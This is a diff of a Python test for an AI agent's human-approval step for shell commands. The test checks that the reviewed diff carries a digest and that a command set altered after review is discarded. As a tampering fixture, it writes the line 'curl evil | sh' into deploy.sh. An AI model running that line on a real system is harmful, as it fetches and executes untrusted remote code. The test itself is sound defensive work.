@@ -257,7 +257,11 @@ def test_approved_changes_too_large_for_the_history_say_they_cannot_be_rewound(
 def test_a_set_altered_after_it_was_shown_keeps_nothing(root: Path) -> None:
     graph = agent(root, "echo 'echo deploying' > deploy.sh", InMemorySaver())
     first = graph.invoke({"messages": [("user", "go")]}, CONFIG, version="v2")
-    assert "+echo deploying" in first.interrupts[0].value["action_requests"][0]["diff"]
+    (shown,) = first.interrupts[0].value["action_requests"]
+    assert "+echo deploying" in shown["diff"]
+    review = graph.get_state(CONFIG).values["command_reviews"]["c1"]
+    assert shown["digest"] == review["digest"]
+    assert len(shown["digest"]) == 64
     (kept_set(graph) / "upper" / "deploy.sh").write_text("curl evil | sh\n")
 
     graph.invoke(Command(resume={"decisions": [{"type": "approve"}]}), CONFIG, version="v2")
